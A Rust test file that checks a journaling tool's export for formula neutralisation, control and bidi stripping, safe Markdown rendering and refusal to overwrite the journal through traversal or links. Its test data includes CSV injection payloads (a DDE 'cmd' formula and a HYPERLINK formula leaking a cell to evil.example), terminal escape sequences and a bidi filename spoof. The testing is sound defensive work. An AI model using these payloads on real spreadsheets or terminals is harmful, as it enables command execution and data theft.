//! `steady export` as other programs see it, through the real binary: `-o` never writes
//! over the journal or its lock however the path is spelled, nor over anything that is not
//! a regular file; CSV read back by a real CSV reader holds what was typed, with formulas
//! made harmless; Markdown rendered by a real `CommonMark` parser shows every answer as it
//! was typed; neither carries control or bidi override characters.

mod journal_common;

use std::fs;
use std::os::unix::fs::symlink;

use journal_common::{Env, stderr, stdout};
use pulldown_cmark::{Event, Parser, Tag, TagEnd};

/// One entry line whose `note` answer is `note` (and a few other answers around it).
fn entry(n: usize, day: u32, note: &str) -> String {
    let mut v = serde_json::json!({
        "v": 1, "id": format!("01JD000000000000000000{n:04}"), "practice": "feeling-check-in",
        "title": "Feeling check-in",
        "started_at": format!("2026-11-{day:02}T{:02}:{:02}:00.000+01:00", 8 + n / 60 % 12, n % 60),
        "ended_at": format!("2026-11-{day:02}T{:02}:{:02}:30.000+01:00", 8 + n / 60 % 12, n % 60),
        "completed": true, "via": "import",
        "responses": {"level": 3, "delta": -2, "note": note},
    });
    if n == 0 {
        v["title"] = "=cmd|' /C calc'!A0 *bold* <b>".into();
    }
    v.to_string()
}

/// Answers that once broke an export (Markdown syntax, HTML, spreadsheet formulas,
/// terminal escapes, bidi overrides, odd spacing and line breaks).
const NASTY: &[&str] = &[
    "*not* bold",
    "`backticks` stay",
    "1. not a list",
    "2) not a list either",
    "felt okay\n---",
    "felt okay\n===",
    "<script>alert(1)</script>",
    "<!-- everything after this",
    "# not a heading",
    "> not a quote",
    "- not a list",
    "+ plus",
    "***",
    "[a link](http://example.com) and ![an image](x.png)",
    "<http://example.com> and http://example.com",
    "snake_case and __dunder__",
    "~~strike~~",
    "&amp; &copy; &#65;",
    "back\\slash\\",
    "ends with a backslash\\",
    "    four spaces, not code",
    "  two leading spaces",
    "two trailing spaces  \nnext line",
    "line one\n\nline three",
    "ends with a line break\n",
    "ends with two\n\n",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "```\nfenced\n```",
    "~~~",
    "tab\tinside",
    "\tleading tab",
    "日本語 *強調* 🌱 _x_",
    "$math$ {braces} ^caret^",
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1",
    "-1 felt low",
    "@SUM(A1:A2)",
    "\t=tab first",
    "\r=carriage return first",
    "a, \"quoted\", and a comma",
    "windows\r\nline end",
    "copy me\u{1b}]52;c;aGVsbG8=\u{7} please",
    "clear\u{1b}[2J\u{1b}[H screen\u{9b}",
    "evil \u{202e}txt.exe\u{202c} and \u{2066}isolate\u{2069}",
    "plain words, nothing odd",
];

/// What an export may keep of `typed`: no control characters but tab and newline (`cr`:
/// and carriage return), no bidi overrides.
fn kept(typed: &str, cr: bool) -> String {
    typed
        .chars()
        .filter(|&c| {
            let control = (c < ' ' && c != '\t' && c != '\n' && !(cr && c == '\r'))
                || ('\u{7f}'..='\u{9f}').contains(&c);
            let bidi = matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
            !control && !bidi
        })
        .collect()
}

fn nasty_journal(env: &Env) {
    let lines: Vec<String> = NASTY
        .iter()
        .enumerate()
        .map(|(n, note)| entry(n, 20 + (n % 3) as u32, note))
        .collect();
    env.write_journal(lines.join("\n") + "\n");
}

/// No byte an export must never carry.
fn assert_no_controls(text: &str, cr: bool) {
    for c in text.chars() {
        let allowed = matches!(c, '\t' | '\n') || (cr && c == '\r');
        assert!(
            allowed || !(c < ' ' || ('\u{7f}'..='\u{9f}').contains(&c)),
            "control {c:?} in export"
        );
        assert!(
            !matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'),
            "bidi override {c:?} in export"
        );
    }
}

#[test]
fn csv_reads_back_as_typed_with_formulas_made_harmless() {
    let env = Env::new("export-csv-nasty");
    nasty_journal(&env);
    let out = env.run(&["export", "--format", "csv"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        stderr(&out),
        "",
        "no message on standard error for data to stdout"
    );
    let text = stdout(&out);
    assert_no_controls(&text, true);
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(
        header[..10].join(","),
        "id,practice,title,started_at,ended_at,day,local_time,completed,via,tags"
    );
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), NASTY.len());
    let mut formulas = 0;
    for row in &rows {
        let n: usize = row[col("id")][22..].parse().unwrap();
        let typed = kept(NASTY[n], true);
        let note = &row[col("responses.note")];
        if typed.starts_with(['=', '+', '-', '@', '\t', '\r']) {
            assert_eq!(note, format!("'{typed}"), "neutralised");
            formulas += 1;
        } else {
            assert_eq!(note, typed);
        }
        assert_eq!(
            &row[col("responses.delta")],
            "-2",
            "numbers steady wrote stay numbers"
        );
        assert!(row[col("started_at")].starts_with("2026-11-"));
        assert_eq!(&row[col("day")], &row[col("started_at")][..10]);
        assert_eq!(&row[col("local_time")], &row[col("started_at")][11..19]);
    }
    assert_eq!(formulas, 10);
    let title = &rows
        .iter()
        .find(|r| r[col("id")].ends_with("0000"))
        .unwrap()[col("title")];
    assert_eq!(title, "'=cmd|' /C calc'!A0 *bold* <b>");
}

/// Each `- note: …` list item's text as a `CommonMark` parser renders it, line breaks as
/// `\n`; and the number of headings at each level.
fn rendered_notes(md: &str) -> (Vec<String>, [usize; 3]) {
    let mut notes = Vec::new();
    let mut headings = [0; 3];
    let mut item: Option<String> = None;
    for event in Parser::new(md) {
        match event {
            Event::Start(Tag::Heading { level, .. }) => headings[level as usize - 1] += 1,
            Event::Start(Tag::Item) => item = Some(String::new()),
            Event::End(TagEnd::Item) => {
                let text = item.take().unwrap();
                if let Some(note) = text.strip_prefix("note: ") {
                    notes.push(note.to_owned());
                }
            }
            Event::Text(t) | Event::Code(t) => {
                if let Some(s) = &mut item {
                    s.push_str(&t);
                }
            }
            Event::HardBreak | Event::SoftBreak => {
                if let Some(s) = &mut item {
                    s.push('\n');
                }
            }
            Event::Html(h) | Event::InlineHtml(h) => panic!("raw HTML got through: {h}"),
            Event::Start(
                Tag::Emphasis
                | Tag::Strong
                | Tag::Link { .. }
                | Tag::Image { .. }
                | Tag::CodeBlock(_)
                | Tag::BlockQuote(_)
                | Tag::List(Some(_)),
            ) => {
                panic!("markup got through: {event:?}")
            }
            _ => {}
        }
    }
    (notes, headings)
}

#[test]
fn markdown_renders_every_answer_as_typed() {
    let env = Env::new("export-md-nasty");
    nasty_journal(&env);
    let out = env.run(&["export", "--format", "md"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let md = stdout(&out);
    assert_no_controls(&md, false);
    assert!(!md.contains('\r'));
    let (notes, headings) = rendered_notes(&md);
    assert_eq!(
        headings,
        [1, 3, NASTY.len()],
        "a title, the days, the entries\n{md}"
    );
    // Line breaks at the very end show as nothing (a hard break cannot end a paragraph).
    let mut expected: Vec<(usize, String)> = NASTY
        .iter()
        .enumerate()
        .map(|(n, typed)| (n, kept(typed, false).trim_end_matches('\n').to_owned()))
        .collect();
    // The export is grouped by day (entry n is on day 20 + n % 3), then by time.
    expected.sort_by_key(|&(n, _)| (n % 3, n));
    assert_eq!(notes.len(), expected.len());
    for (got, (n, want)) in notes.iter().zip(&expected) {
        assert_eq!(got, want, "answer {n}, typed {:?}", NASTY[*n]);
    }
}

#[test]
fn output_never_goes_over_the_journal_however_it_is_spelled() {
    let env = Env::new("export-target");
    nasty_journal(&env);
    let before = env.journal_bytes();
    let data = env.journal().parent().unwrap().to_owned();
    symlink(env.journal(), env.dir.join("link.md")).unwrap();
    fs::hard_link(env.journal(), env.dir.join("hard.md")).unwrap();
    let lock = data.join("journal.jsonl.lock");
    fs::write(&lock, "").unwrap();
    let spellings = [
        ("exports/../journal.jsonl", "journal itself"),
        ("exports/deeper/../../journal.jsonl", "journal itself"),
        ("./journal.jsonl", "journal itself"),
        ("../link.md", "journal itself"),
        ("../hard.md", "journal itself"),
        ("new/../journal.jsonl.lock", "lock file"),
    ];
    for (spelled, why) in spellings {
        for force in [false, true] {
            let mut cmd = env.cmd(&["export", "--format", "md", "-o", spelled]);
            if force {
                cmd.arg("--force");
            }
            let out = cmd.current_dir(&data).output().unwrap();
            assert_eq!(out.status.code(), Some(2), "{spelled}: {}", stderr(&out));
            assert!(stderr(&out).contains(why), "{spelled}: {}", stderr(&out));
            assert_eq!(env.journal_bytes(), before, "{spelled}");
            assert!(!data.join("exports").exists() && !data.join("new").exists());
        }
    }
    assert_eq!(fs::read(&lock).unwrap(), b"");
}

#[test]
fn output_is_a_regular_file_or_standard_output() {
    let env = Env::new("export-kinds");
    nasty_journal(&env);
    let out = env.run(&[
        "export",
        "--format",
        "jsonl",
        "-o",
        "/dev/stdout",
        "--force",
    ]);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("not a plain file") && stderr(&out).contains("-o -"));
    assert_eq!(stdout(&out), "");
    let out = env.run(&["export", "--format", "jsonl", "-o", "-"]);
    assert!(out.status.success());
    assert_eq!(out.stdout, env.journal_bytes());
    let target = env.dir.join("real.md");
    fs::write(&target, "mine").unwrap();
    symlink(&target, env.dir.join("link-to-real.md")).unwrap();
    let link = env.dir.join("link-to-real.md");
    let out = env.run(&[
        "export",
        "--format",
        "md",
        "--force",
        "-o",
        link.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert_eq!(fs::read(&target).unwrap(), b"mine");
    assert!(
        fs::symlink_metadata(&link)
            .unwrap()
            .file_type()
            .is_symlink()
    );
}

#[test]
fn quiet_silences_what_was_done_but_not_the_data() {
    let env = Env::new("export-quiet");
    nasty_journal(&env);
    let file = env.dir.join("out.csv");
    let path = file.to_str().unwrap();
    let out = env.run(&["-q", "export", "--format", "csv", "-o", path]);
    assert!(out.status.success());
    assert_eq!((stdout(&out), stderr(&out)), (String::new(), String::new()));
    assert!(
        fs::read_to_string(&file)
            .unwrap()
            .starts_with("id,practice")
    );
    let out = env.run(&["export", "--quiet", "--format", "jsonl"]);
    assert_eq!(out.stdout, env.journal_bytes());
}

/// The first pass of csv and md reads only each line's outline, which a few lines that are
/// not entries also have; the whole parse of the second pass has the last word, so such a
/// line is left out and every entry around it is written once, in time order.
#[test]
fn lines_that_only_look_like_entries_are_left_out_and_the_rest_keep_their_order() {
    let env = Env::new("export-outline-not-entry");
    let bogus_via = entry(90, 15, "bogus via").replace(r#""via":"import""#, r#""via":"fax""#);
    let numeric_id = entry(91, 16, "numeric id").replace(r#""01JD0000000000000000000091""#, "7");
    let mut lines: Vec<String> = (1..=40)
        .map(|n| entry(n, 1 + (n as u32 * 7) % 28, &format!("note {n}")))
        .collect();
    lines.insert(5, bogus_via);
    lines.insert(20, numeric_id);
    lines.insert(30, "not json at all".into());
    env.write_journal(lines.join("\n") + "\n");

    let csv = env.run(&["export", "--format", "csv"]);
    assert!(csv.status.success(), "{}", stderr(&csv));
    let text = stdout(&csv);
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let note = reader
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == "responses.note")
        .unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let notes: Vec<String> = rows.iter().map(|r| r[note].to_string()).collect();
    let mut expected: Vec<(String, String)> = (1..=40)
        .map(|n| {
            let line: serde_json::Value =
                serde_json::from_str(&entry(n, 1 + (n as u32 * 7) % 28, "")).unwrap();
            (
                line["started_at"].as_str().unwrap().to_owned(),
                format!("note {n}"),
            )
        })
        .collect();
    expected.sort();
    let expected: Vec<String> = expected.into_iter().map(|(_, note)| note).collect();
    assert_eq!(notes, expected, "every entry once, in time order");
    assert!(
        stderr(&csv).contains("3 journal lines could not be read"),
        "{}",
        stderr(&csv)
    );

    let md = stdout(&env.run(&["export", "--format", "md"]));
    let written: Vec<&str> = md
        .lines()
        .filter_map(|l| l.strip_prefix("- note: "))
        .collect();
    assert_eq!(written, expected, "{md}");
    assert!(
        !md.contains("bogus via") && !md.contains("numeric id"),
        "{md}"
    );
}
